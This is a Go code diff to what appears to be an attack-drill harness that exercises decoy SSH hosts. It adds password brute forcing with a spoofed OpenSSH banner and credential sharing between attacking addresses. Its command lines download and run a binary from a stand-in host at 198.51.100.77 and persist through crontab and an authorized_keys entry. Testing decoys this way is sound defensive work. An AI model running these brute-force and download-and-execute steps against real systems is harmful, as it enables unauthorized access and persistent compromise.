@@ -10,11 +10,13 @@ package drill
 import (
 	"bufio"
 	"context"
+	"errors"
 	"fmt"
 	"io"
 	"net"
 	"net/netip"
 	"strings"
+	"sync"
 	"time"
 
 	"golang.org/x/crypto/ssh"
@@ -28,6 +30,7 @@ type attack struct {
 	target netip.Addr
 	ports  map[string]uint16 // decoy instance → port
 	mark   func(step string)
+	loot   *loot
 }
 
 // stepWait bounds one exchange. An attacker who is blocked in the middle of a
@@ -109,43 +112,80 @@ var guesses = [...][2]string{
 	{"root", "admin"}, {"admin", "admin"}, {"root", "root"}, {"pi", "raspberry"},
 }
 
-// sshLogin tries credentials until one opens, one connection each, as brute
-// force tools do.
-func (a *attack) sshLogin() (*ssh.Client, error) {
-	var last error
-	for _, g := range guesses {
-		c, err := a.dial("ssh")
-		if err != nil {
-			return nil, err
-		}
-		conf := &ssh.ClientConfig{
-			User: g[0], Auth: []ssh.AuthMethod{ssh.Password(g[1])}, ClientVersion: "SSH-2.0-Go", Timeout: stepWait,
-			HostKeyCallback: ssh.InsecureIgnoreHostKey(), // an attacker does not care whose key it is
-		}
-		a.mark("password for " + g[0])
-		conn, chans, reqs, err := ssh.NewClientConn(c, "decoy", conf)
-		if err != nil {
-			c.Close()
-			last = err
-			continue
-		}
-		a.mark("logged in as " + g[0])
-		_ = c.SetDeadline(time.Time{})
-		return ssh.NewClient(conn, chans, reqs), nil
-	}
-	return nil, last
+// loot is what the attackers of one drill have found and share, as gangs do:
+// brute force from one address, use from another.
+type loot struct {
+	mu          sync.Mutex
+	user, pass  string
+	found       chan struct{} // closed when there is something
+	foundClosed bool
 }
 
-func sshBrute(a *attack) error {
-	c, err := a.sshLogin()
+func newLoot() *loot { return &loot{found: make(chan struct{})} }
+
+func (l *loot) put(user, pass string) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	l.user, l.pass = user, pass
+	if !l.foundClosed {
+		l.foundClosed = true
+		close(l.found)
+	}
+}
+
+func (l *loot) get() (user, pass string) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.user, l.pass
+}
+
+// login tries one credential on a connection of its own, as brute force tools
+// do. It calls itself OpenSSH, because a tool's name would be evidence too.
+func (a *attack) login(user, pass string) (*ssh.Client, error) {
+	c, err := a.dial("ssh")
 	if err != nil {
-		return err
+		return nil, err
 	}
-	return c.Close()
+	conf := &ssh.ClientConfig{
+		User: user, Auth: []ssh.AuthMethod{ssh.Password(pass)}, ClientVersion: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3", Timeout: stepWait,
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(), // an attacker does not care whose key it is
+	}
+	a.mark("password for " + user)
+	conn, chans, reqs, err := ssh.NewClientConn(c, "decoy", conf)
+	if err != nil {
+		c.Close()
+		return nil, err
+	}
+	_ = c.SetDeadline(time.Time{})
+	return ssh.NewClient(conn, chans, reqs), nil
 }
 
+// sshBrute guesses passwords that are on no list until one opens. A host whose
+// first guess opens is a decoy, so this takes at least a handful.
+func sshBrute(a *attack) error {
+	var last error
+	for i := range 24 {
+		pass := fmt.Sprintf("Summer%d!%s", 2001+i, a.src)
+		c, err := a.login("root", pass)
+		if err == nil {
+			a.loot.put("root", pass)
+			return c.Close()
+		}
+		last = err
+	}
+	return last
+}
+
+// sshSession uses what sshBrute found, from another address.
 func sshSession(a *attack) error {
-	c, err := a.sshLogin()
+	select {
+	case <-a.loot.found:
+	case <-time.After(3 * time.Second):
+		return errors.New("nobody found a password")
+	case <-a.ctx.Done():
+		return a.ctx.Err()
+	}
+	c, err := a.login(a.loot.get())
 	if err != nil {
 		return err
 	}
@@ -155,23 +195,24 @@ func sshSession(a *attack) error {
 		"cd /tmp && wget http://198.51.100.77/bins/x86_64 -O .x && chmod +x .x && ./.x ssh",
 		"(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -; mkdir -p ~/.ssh; echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB drill >> ~/.ssh/authorized_keys",
 	} {
-		s, err := c.NewSession()
-		if err != nil {
+		if err := a.exec(c, line); err != nil {
 			return err
 		}
-		a.mark("exec")
-		done := make(chan error, 1)
-		go func() { done <- s.Run(line) }() // ends when the session is closed below
-		select {
-		case <-done:
-		case <-time.After(stepWait):
-			s.Close()
-			c.Close()
-			<-done
-			return fmt.Errorf("no answer to a command")
-		}
-		s.Close()
 	}
+	return nil
+}
+
+// exec runs one command and waits for its end, but not for ever: a blocked
+// attacker gets no answer.
+func (a *attack) exec(c *ssh.Client, line string) error {
+	cut := time.AfterFunc(stepWait, func() { c.Close() })
+	defer cut.Stop()
+	s, err := c.NewSession()
+	if err != nil {
+		return err
+	}
+	a.mark("exec")
+	_ = s.Run(line) // what the command says of itself is of no interest
 	return nil
 }
 
